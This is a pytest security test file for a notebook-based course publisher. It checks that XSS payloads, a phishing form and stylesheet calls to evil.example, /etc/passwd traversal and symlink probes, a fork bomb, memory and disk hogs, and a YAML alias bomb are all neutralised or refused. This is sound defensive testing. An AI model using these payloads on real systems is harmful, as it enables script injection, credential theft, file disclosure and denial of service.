"""S8: whatever a notebook holds, no script of it runs on a page, and a finding names it."""

import os
import re
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest
from playwright.sync_api import BrowserContext, Page, Request

from publishing.confine import Limits
from publishing.versions import Publisher, publish
from store.artifacts import Artifacts
from store.database import Database
from store.errors import Invalid
from store.queries.modules import get_current
from store.tables import Version
from tests.factories import database
from tests.factories import sqlite_url as url
from tests.publishing.conftest import PROPERTIES
from tests.publishing.writing import (
    CHOICE,
    Cell,
    code,
    picture,
    plan,
    quiz,
    quiz_test,
    words,
    write_course,
)

__all__ = ["database", "url"]

HOSTILE_WORDS = [
    "<script>trap('script')</script>",
    "<img src=x onerror=\"trap('onerror')\">",
    '<img src="media/ok.png" onload="trap(1)" style="position:fixed" alt="ক">',
    "<svg onload=\"trap('svg')\"><script>trap('svg script')</script></svg>",
    "<iframe srcdoc=\"<script>parent.trap('frame')</script>\"></iframe>",
    "<object data=\"data:text/html,<script>trap('object')</script>\"></object>",
    '<form action="https://evil.example"><input name=password><button>দিন</button></form>',
    "<a href=\"javascript:trap('link')\">লিংক</a> [x](javascript:trap('link'))",
    "<a href=\"data:text/html,<script>trap('data')</script>\">x</a>",
    "<math><mtext><img src=x onerror=\"trap('maths')\"></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>trap('mxss')</script></annotation-xml>",
    "$\\text{<img src=x onerror=trap('tex')>}$ $\\href{javascript:trap(1)}{x}$",
    "<style>@import 'https://evil.example/x.css'; p{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '<div class="component" data-component="Choice" data-exercise="my-plan" data-props="{}">',
    "</section></article><article id=page data-page='{}'><h1 id=my-plan>",
    "<noscript><p title=\"</noscript><img src=x onerror=trap('mutation')>\"></noscript>",
    "<template><script>trap('template')</script></template><video src=x onerror=trap('video')>",
    "`<script>trap('code')</script>`\n\n```html\n<script>trap('fence')</script>\n```",
    "<h1 onclick=trap(1) id='my-plan'>শিরোনাম</h1>",
]

Refusal = Callable[..., dict[int | None, dict[str, Any]]]


@pytest.fixture
def publisher(database: Database, tmp_path: Path) -> Publisher:
    data = tmp_path / "data"
    limits = Limits(cpu_seconds=6, wall_seconds=30, memory_bytes=1 << 30, output_bytes=5 << 20)
    return Publisher(database, Artifacts(data / "artifacts"), PROPERTIES, data / "work", limits)


@pytest.fixture
def refusal(
    publisher: Publisher, tmp_path: Path
) -> Callable[..., dict[int | None, dict[str, Any]]]:
    """Publish cells that must be refused; give the errors by cell."""

    def act(*cells: Cell) -> dict[int | None, dict[str, Any]]:
        folder = write_course(tmp_path / "trial", *cells)
        with pytest.raises(Invalid) as raised:
            publish(publisher, folder)
        with publisher.database.read() as session:
            assert session.query(Version).count() == 0
        errors = [f for f in raised.value.facts["findings"] if f["level"] == "error"]
        assert errors and all(f["file"] and f["fix"]["bn"] and f["fix"]["en"] for f in errors)
        return {finding["cell"]: finding for finding in errors}

    return act


def test_hostile_words_become_harmless_and_are_named(
    publisher: Publisher, tmp_path: Path, context: BrowserContext
) -> None:
    folder = write_course(
        tmp_path / "trial",
        *(words(text) for text in HOSTILE_WORDS),
        code(
            "from IPython.display import HTML\nHTML('<b class=component>৬০</b><style>b{}</style>')"
        ),
        plan(),
    )
    (folder / "media").mkdir()
    (folder / "media" / "ok.png").write_bytes(picture())
    (folder / "x").write_bytes(picture())
    [published] = publish(publisher, folder)
    removed = [each for each in published.findings if each["rule"] == "html-removed"]
    assert {each["cell"] for each in removed} >= {1, 2, 3, 4, 5, 6, 7, 8, 10, 15, 16, 19}
    with publisher.database.read() as session:
        version = get_current(session, "trial/spare-time")
    for sha in version.pages.values():
        html = publisher.artifacts.read(sha).decode()
        assert html.count('class="component"') == 1
        assert html.count("data-exercise") == 1 and html.count("data-props") == 1
        assert html.count("<article") == 1 and html.count("<h1") == 1
        assert html.count(' id="my-plan"') == 1
        assert not ran_or_asked(context.new_page(), html), "something of a notebook ran on the page"


def ran_or_asked(page: Page, html: str) -> list[str]:
    """Show a fragment without any policy of ours; return what ran and what was asked elsewhere."""
    seen: list[str] = []
    page.expose_function("trap", lambda what: seen.append(str(what)))

    def note(request: Request) -> None:
        if "evil" in request.url:
            seen.append(request.url)

    page.on("request", note)
    page.set_content(f"<!doctype html><main>{html}</main>", wait_until="load")
    for link in page.locator("a[href], h1, h2, img").all():
        link.dispatch_event("click")
    assert page.locator("script, iframe, object, form, style, svg, base, link, meta").count() == 0
    page.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
    page.close()
    return seen


def test_components_are_those_of_our_build_alone(refusal: Refusal) -> None:
    forged = """
import ipyvuetify, traitlets
from ipyvue import Template
from ipyvue.esm import define_module
define_module("pathshala", code="alert('code')")
define_module("elsewhere", url="https://evil.example/x.js")
class Forged(ipyvuetify.VuetifyTemplate):
    answer = traitlets.Unicode("b").tag(sync=True)
"""
    of_ours = 'Template(esm_module="pathshala", esm_export="HandIn")'
    errors = refusal(
        code(f"from pathshala import *\n{forged}"),
        code('Forged(template=Template(esm_module="elsewhere", esm_export="HandIn"))'),
        code('Forged(template=Template(esm_module="pathshala", esm_export="constructor"))'),
        code('Forged(template=Template(template="<b onclick=alert(1)>x</b>"))'),
        code(f"Forged(template={of_ours})"),
        quiz(shows=CHOICE.replace("Choice(", "Choice2(")),
        quiz_test(),
    )
    assert {cell: error["rule"] for cell, error in errors.items()} == {
        5: "props-bad",
        6: "cell-failed",
    }
    assert "answer" in errors[5]["message"]["en"]


def test_script_in_an_output_stays_off_the_portals_page(
    publisher: Publisher, tmp_path: Path
) -> None:
    cells = [
        code("from IPython.display import HTML, Javascript, display"),
        code("HTML('<script>alert(1)</script>')"),
        code("Javascript('alert(1)')"),
        code("display({'text/html': '<b onclick=alert(1)>x</b>'}, raw=True)"),
        code("display({'application/vnd.plotly.v1+json': {}, 'text/plain': 'x'}, raw=True)"),
        code("display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}}, raw=True)"),
        code("print('\\n0123456789abcdef cell\\n<script>alert(1)</script>')"),
    ]
    [published] = publish(publisher, write_course(tmp_path / "trial", *cells))
    live = {each["cell"] for each in published.findings if each["rule"] == "live"}
    assert (published.verdict, live) == ("live", {2, 3, 4, 5, 6})
    with publisher.database.read() as session:
        version = get_current(session, "trial/spare-time")
    for sha in version.pages.values():
        html = publisher.artifacts.read(sha).decode()
        assert not re.search(r"<script|onclick|model_id", html)
        assert "&lt;script&gt;alert(1)" in html, "what is only printed is text"


HOGS = {
    "loop": ("while True: pass", "ran-too-long", ""),
    # the kernel's limit, or that of all processes together, whichever is met first: both say memory
    "memory": ("x = []\nwhile True: x.append('x' * 10**7)", "cell-failed ran-too-long", "emory"),
    "4 GB": ("x = bytes(4 << 30)", "cell-failed", "MemoryError"),
    "murder": ("import os\nos.kill(os.getppid(), 9)", "renderer-failed", ""),
    # its output, its memory or the kernel's line to the renderer, whichever gives way first
    "flood": ("while True: print('x' * 10**5)", "ran-too-long cell-failed renderer-failed", ""),
    "10 GB": (
        "import os\nfor n in range(10**6):\n    open(str(n), 'wb').write(bytes(4 << 20))",
        "ran-too-long",
        "output",
    ),
    "fork bomb": (
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        "ran-too-long",
        "",  # its processes, or what they weigh together, whichever is seen first
    ),
    "10^6 outputs": (
        "from IPython.display import display\nfor n in range(10**6): display(n)",
        "ran-too-long",
        "",
    ),
    "600 outputs": (
        "from IPython.display import display\nfor n in range(600): display(n)",
        "renderer-failed",
        "600 things",
    ),
    "network": (
        "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9', timeout=3)",
        "network-missing",
        "URLError",
    ),
}
QUICK = ("loop", "4 GB", "murder", "fork bomb")


@pytest.mark.usefixtures("own_temporary_folder")
@pytest.mark.parametrize(
    ("source", "rules", "words"),
    [
        pytest.param(*hog, id=name, marks=[] if name in QUICK else pytest.mark.bar)
        for name, hog in HOGS.items()
    ],
)
def test_a_hog_is_stopped_named_by_its_cell_and_nothing_of_it_lives_on(
    source: str, rules: str, words: str, refusal: Refusal, publisher: Publisher
) -> None:
    mark = f"hog-{os.getpid()}"
    start = (
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', 'input()', '{mark}'], "
        "stdin=subprocess.PIPE, start_new_session=True)\n"
    )
    before = census(publisher)
    errors = refusal(code("1 + 1"), code(start + source), code("2 + 2"))
    assert errors[2]["rule"] in rules.split()
    assert words in errors[2]["message"]["en"]
    assert not [p for p in psutil.process_iter(["cmdline"]) if mark in (p.info["cmdline"] or [])]
    assert census(publisher) == before


def census(publisher: Publisher) -> set[Path]:
    """Return what lies where trainers' code could have left something."""
    return {
        path
        for folder in (publisher.work, publisher.artifacts.root, Path(tempfile.gettempdir()))
        for path in folder.rglob("*")
    }


@pytest.fixture
def own_temporary_folder(publisher: Publisher, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Use `tempfile.tempdir`, which the standard library offers for this: the census must not see
    what other tests leave in the common folder, and sockets need a shorter path than `tmp_path`."""
    with tempfile.TemporaryDirectory(prefix="hogs-") as folder:
        monkeypatch.setattr(tempfile, "tempdir", folder)
        yield


@pytest.mark.bar
def test_other_publishing_goes_on_beside_a_hog(publisher: Publisher, tmp_path: Path) -> None:
    write_course(tmp_path / "courses" / "a-hog", code("while True: pass"), course="a-hog")
    write_course(tmp_path / "courses" / "b-good", words("# ভালো"), course="b-good")
    with pytest.raises(Invalid) as raised:
        publish(publisher, tmp_path / "courses")
    assert raised.value.facts["course"] == "a-hog"
    with publisher.database.read() as session:
        assert get_current(session, "b-good/spare-time").number == 1


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("01-spare-time.ipynb", '{"cells": ' + "[" * 10**5, "notebook-unreadable"),
        ("01-spare-time.ipynb", " " * (21 << 20), "notebook-unreadable"),
        ("course.yml", "[" * 10**5, "course-file"),
        ("course.yml", " " * (300 << 10), "course-file"),
        (
            "course.yml",
            "a0: &a0 [x, x]\n"
            + "".join(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]\n" for n in range(1, 40))
            + "course: *a39",
            "course-file",
        ),
    ],
    ids=["deep notebook", "huge notebook", "deep course", "huge course", "aliases"],
)
def test_a_file_made_to_swell_is_refused_unread(
    name: str, content: str, rule: str, publisher: Publisher, tmp_path: Path
) -> None:
    folder = write_course(tmp_path / "trial", words("# ক"))
    (folder / name).write_text(content)
    with pytest.raises(Invalid) as raised:
        publish(publisher, folder)
    [finding] = raised.value.facts["findings"]
    assert (finding["file"], finding["rule"]) == (name, rule)


def test_deep_properties_and_outputs_are_findings(refusal: Refusal) -> None:
    deep = "deep = {}\nfor _ in range(400): deep = {'bn': deep}\n"
    errors = refusal(
        code("from pathshala import *\nfrom IPython.display import display"),
        code(f"{deep}Clip('a.mp4', 'x', context={{'school': deep}})"),
        code(f"{deep}display({{'application/json': deep}}, raw=True)"),
    )
    assert {error["rule"] for error in errors.values()} <= {"props-bad", "renderer-failed", "live"}
    assert set(errors) <= {2, 3, None}


def test_files_outside_the_course_stay_outside(
    tmp_path: Path, publisher: Publisher, refusal: Refusal
) -> None:
    secret = tmp_path / "data" / "secrets" / "token"
    secret.parent.mkdir(parents=True)
    secret.write_text("canary-token")
    folder = tmp_path / "trial"
    folder.mkdir()
    (folder / "link.png").symlink_to("/etc/passwd")
    (folder / "up").symlink_to("/etc")
    (folder / "text.png").write_text("root:x:0:0")
    errors = refusal(
        words("![x](../../../../etc/passwd)"),
        words("![x](/etc/passwd)"),
        words("![x](link.png)"),
        words("![x](up/passwd)"),
        words("![x](..%2f..%2fetc%2fpasswd)"),
        words("![x](file:///etc/passwd)"),
        words('<img src="..\\..\\etc\\passwd">'),
        words("![x](text.png)"),
        words("![x](data:image/svg+xml;base64,PHNjcmlwdD4=)"),
        code(f"print(open({str(secret)!r}).read())"),
        code("from pathshala import Clip\nClip('../data/secrets/token', 'x')"),
        code("from pathshala import Clip\nClip('text.png', 'x', poster='/etc/passwd')"),
    )
    rules = {cell: error["rule"] for cell, error in errors.items()}
    assert rules == {
        **dict.fromkeys((1, 2, 3, 4, 5, 7, 11), "media-outside"),
        6: "media-foreign",
        8: "media-broken",
        9: "media-broken",
        10: "cell-failed",
        12: "film-refused",
    }
    assert "canary" not in str(errors)
    kept = list(publisher.artifacts.root.rglob("*"))
    assert not [path for path in kept if path.is_file() and b"root:" in path.read_bytes()]
